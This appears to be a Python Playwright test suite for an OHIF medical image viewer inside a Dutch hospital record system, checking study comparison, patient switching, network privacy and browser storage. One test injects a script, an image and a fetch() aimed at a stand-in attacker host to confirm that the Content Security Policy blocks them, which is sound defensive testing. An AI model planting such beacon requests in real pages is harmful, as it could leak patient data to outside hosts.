"""The full viewer as a clinician uses it: OHIF itself, over the images of two hospitals of the demo world."""

import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Playwright, expect

from tests.e2e.ohif import FullViewer, needs_viewer
from tests.e2e.test_policy import planted
from tests.e2e.workplace import Workplace, watched
from tests.lib.chromium import CHROMIUM, FLAGS
from tests.lib.demo_world import DemoWorld

pytestmark = needs_viewer

CT, PRIOR_AT = "CTA aorta abdominalis", "Rijnmond"


def opened(workplace: Workplace, description: str = CT, at: str = PRIOR_AT) -> FullViewer:
    """Launch the patient, and open the current study beside this one."""
    timeline = workplace.launch("aneurysma")
    timeline.answered(5, 5)
    timeline.row(description, at).click()
    with workplace.context.expect_page() as opening:
        timeline.page.keyboard.press("o")
    return FullViewer(opening.value)


@pytest.mark.requirement("T3.4.compare", "T3.4.handed", "A16")
@pytest.mark.hazard("H31")
def test_the_current_study_stands_left_of_a_prior_of_another_hospital_both_with_a_picture(
    workplace: Workplace,
) -> None:
    viewer = opened(workplace)
    left, right = viewer.panes(2)
    expect(left).to_contain_text("HUIDIG")
    expect(left).to_contain_text("Ziekenhuis Fryslân")
    expect(right).to_contain_text(re.compile(r"EERDER \(1[34] mnd\)"))  # 425 days, in whole months
    expect(right).to_contain_text("Universitair Medisch Centrum Rijnmond")
    for pane in (left, right):
        expect(pane).to_contain_text("Test-Aneurysma")
        assert viewer.shades(pane) > 40
    expect(viewer.page.get_by_text("Opslaan staat uit")).to_be_visible()


@pytest.mark.requirement("T3.4.handed", "A2")
def test_the_viewer_opens_from_a_timeline_in_the_frame_of_the_epd_and_a_second_window_leaves_the_first(
    workplace: Workplace,
) -> None:
    timeline = workplace.record("aneurysma")
    timeline.answered(5, 5)
    windows = []
    for description, at in ((CT, PRIOR_AT), ("CT abdomen met contrast", "Delfshaven")):
        timeline.row(description, at).click()
        with workplace.context.expect_page() as opening:
            timeline.pane.get_by_role("button", name="Volledige viewer").click()
        windows.append(FullViewer(opening.value))
        windows[-1].panes(2)
    first, second = windows
    first.page.reload()
    for viewer, name in ((first, "Rijnmond"), (second, "Delfshaven")):
        assert viewer.shades(viewer.panes(2)[1]) > 40
        expect(viewer.panes(2)[1]).to_contain_text(name)


@pytest.mark.requirement("T3.4.compare")
def test_the_viewer_opens_in_whichever_order_its_files_come(workplace: Workplace) -> None:
    """Where a style sheet comes last, a part of OHIF begins when no script is the current one."""
    workplace.context.add_init_script(
        "Object.defineProperty(Document.prototype, 'currentScript', { get: () => null })"
    )
    viewer = opened(workplace)
    assert all(viewer.shades(pane) > 40 for pane in viewer.panes(2))


@pytest.mark.requirement("T3.4.compare")
def test_the_viewer_looks_as_it_did_when_its_version_was_chosen(workplace: Workplace) -> None:
    """A new version of OHIF, or a change of our configuration, is looked at before it is taken."""
    viewer = opened(workplace)
    viewer.panes(2)
    viewer.looks_as("compare")


@pytest.mark.requirement("T3.4.policy")
@pytest.mark.parametrize(("description", "at"), [("MRI schouder rechts", ""), ("X-onderbeen rechts", "")])
def test_compressed_images_are_decoded_in_workers_under_the_strict_policy(
    workplace: Workplace, description: str, at: str
) -> None:
    viewer = opened(workplace, description, at)
    _, right = viewer.panes(2)
    assert viewer.shades(right) > 40
    assert viewer.page.evaluate("crossOriginIsolated") is True


@pytest.mark.requirement("T3.4.policy")
def test_a_script_that_gets_into_the_viewer_does_not_run_and_loads_nothing(workplace: Workplace) -> None:
    viewer = opened(workplace)
    viewer.panes(2)
    refused = viewer.page.evaluate(
        """() => new Promise((resolve) => {
          const refused = [];
          document.addEventListener('securitypolicyviolation', (event) => {
            refused.push(event.effectiveDirective);
            if (refused.length === 3) resolve(refused.toSorted());
          });
          const script = document.createElement('script');
          script.textContent = 'window.ran = true';
          const elsewhere = document.createElement('img');
          elsewhere.src = 'http://evil.localhost:1/pixel';
          document.body.append(script, elsewhere);
          fetch('http://evil.localhost:1/tell').catch(() => undefined);
        })"""
    )
    assert refused == ["connect-src", "img-src", "script-src-elem"]
    assert viewer.page.evaluate("window.ran") is None
    workplace.expected("Content Security Policy")


@pytest.mark.requirement("T3.4.stays", "A67", "B57")
@pytest.mark.hazard("H31", "H10")
def test_another_patient_takes_the_images_off_the_screen(workplace: Workplace) -> None:
    viewer = opened(workplace)
    viewer.panes(2)
    address = viewer.page.url
    workplace.launch("leeg").answered(1, 1)
    expect(viewer.page.get_by_role("heading", name="Deze viewer is afgesloten")).to_be_visible()
    assert viewer.page.locator("canvas").count() == 0
    viewer.page.goto(address)
    expect(viewer.page.get_by_role("heading", name="Deze beelden zijn hier niet geopend")).to_be_visible()
    workplace.expected("status of 403")
    # OHIF complains of what it was reading and may not read any more.
    of_ohif = ("/dw/", "CORNERSTONE", "Failed to fetch")
    workplace.faults[:] = [fault for fault in workplace.faults if not any(part in fault for part in of_ohif)]


@pytest.mark.requirement("T3.4.private")
@pytest.mark.hazard("H5")
def test_the_viewer_asks_nobody_else_and_only_its_own_address_names_studies(workplace: Workplace) -> None:
    viewer = opened(workplace)
    viewer.panes(2)
    hosts = {urlsplit(url).hostname for url in workplace.urls if url.startswith("http")}
    assert hosts == {"epd.localhost", "timeline.localhost", "viewer.localhost"}
    named = {urlsplit(url).path for url in workplace.urls if "2.25." in url and "/dw/" not in url}
    assert named == {"/compare"}
    assert [url for url in workplace.urls for text in planted(workplace.world) if text in url] == []


@pytest.mark.requirement("T3.4.private", "A66", "B3")
@pytest.mark.hazard("H5")
def test_the_browser_keeps_nothing_of_the_patient_that_the_viewer_showed(
    playwright: Playwright, demo_world: DemoWorld, tmp_path: Path
) -> None:
    context = playwright.chromium.launch_persistent_context(
        tmp_path, executable_path=CHROMIUM, args=FLAGS, locale="nl-NL"
    )
    workplace = watched(context, demo_world)
    viewer = opened(workplace)
    viewer.panes(2)
    kept = viewer.page.evaluate("() => [Object.keys(localStorage).toSorted(), Object.keys(sessionStorage)]")
    context.close()
    assert kept == [["i18nextLng", "loglevel", "shownTours"], []]
    files = [file for file in tmp_path.rglob("*") if file.is_file()]
    assert any(b"i18nextLng" in file.read_bytes() for file in files)
    found = [
        (text, str(file.relative_to(tmp_path)))
        for file in files
        for content in [file.read_bytes()]
        for text in planted(demo_world)
        if text.encode() in content or text.encode("utf-16-le") in content
    ]
    assert found == []
